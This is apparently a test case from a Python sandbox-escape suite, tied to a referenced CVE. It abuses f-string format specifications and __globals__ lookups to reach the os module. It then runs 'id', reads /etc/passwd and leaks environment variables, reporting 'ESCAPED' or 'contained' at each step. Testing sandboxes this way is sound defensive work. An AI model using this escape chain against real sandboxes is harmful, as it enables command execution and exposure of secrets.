# /// case
# technique = "format-strings"
# analysis = ["code-in-text", "forbidden-attribute"]
# without_analysis = "contained"
# reference = "CVE-2025-24359"
# ///
# The specification of an f-string field is itself put together from fields, and then used as a template.
class Echo:
    def __init__(self, value):
        self.value = value
    def __format__(self, specification):
        return ("{0.value." + specification + "}").format(self)

import logging
path = "__init__.__globals__[os].environ"
text = f"{Echo(logging.Handler):{path}}"
print("ESCAPED " + text[:60] if "CARGO" in text or "CANARY" in text else "contained")
try:
    f"{Echo(logging.Handler):{'__init__.__globals__[os].missing'}}"
except AttributeError as error:
    found = error.obj

def probe(os):
    actions = (
        lambda: os.popen("id").read(),
        lambda: os.read(os.open("/etc/passwd", os.O_RDONLY), 64).decode(),
        lambda: " ".join(key for key in os.environ if key.startswith(("CARGO", "CANARY"))),
    )
    for action in actions:
        try:
            text = action()
        except BaseException as error:
            print("contained", type(error).__name__)
            continue
        print("ESCAPED " + text[:40] if text.strip() else "contained, empty")

probe(found)
